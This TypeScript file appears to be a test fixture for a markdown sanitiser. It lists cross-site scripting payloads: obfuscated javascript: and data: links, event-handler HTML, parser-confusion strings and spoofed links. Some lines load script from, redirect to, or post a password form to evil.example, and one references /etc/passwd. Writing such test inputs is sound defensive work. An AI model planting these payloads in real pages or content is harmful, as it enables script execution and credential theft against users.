/* Texts that would run code or send requests if the app rendered the HTML and unsafe links of entries. */

const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://example.org/%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://example.org/1',
  'file:///etc/passwd',
  'irc://example.org/channel',
  'xmpp:somebody@example.org',
  'intent://scan/#Intent;scheme=zxing;end',
  '//example.org/one',
  '/settings',
  '../logs/one',
  '?q=one',
  '#main',
  'http:javascript:alert(1)',
]

const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[one](${address})`,
  (address) => `[two](<${address}> "title")`,
  (address) => `![three](${address})`,
  (address) => `<${address}>`,
  (address) => `[four][ref]\n\n[ref]: ${address}`,
]

const HTML = [
  '<script>alert(1)</script>',
  '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<a href="javascript:alert(1)" onclick="alert(1)">click</a>',
  '<body onload=alert(1)>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<u onclick=alert(1)>under</u>',
  '<u style="position:fixed;inset:0">under</u>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<x onpointerenter=alert(1)>hover</x>',
  '</p></article></main><h1>Out of the box</h1>',
]

const TRICKS = [
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '[^1]\n\n[^1]: [note](javascript:alert(1))',
  'https://example.org/"onmouseover="alert(1)',
  '[a](https://example.org/"onmouseover="alert(1))',
  '\u202Egro.elpmaxe//:sptth',
  '[\u202Ehttps://bank.example](https://evil.example)',
  '- [ ] <input type=checkbox onclick=alert(1)>',
  '[link](javascript:alert(1) "title <script>alert(1)</script>")',
]

/** Texts with each hostile URL in each kind of link, then texts with HTML, then other attacks. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...SCHEMES.flatMap((address) => LINKS.map((link) => link(address))),
  ...HTML,
  ...TRICKS,
]
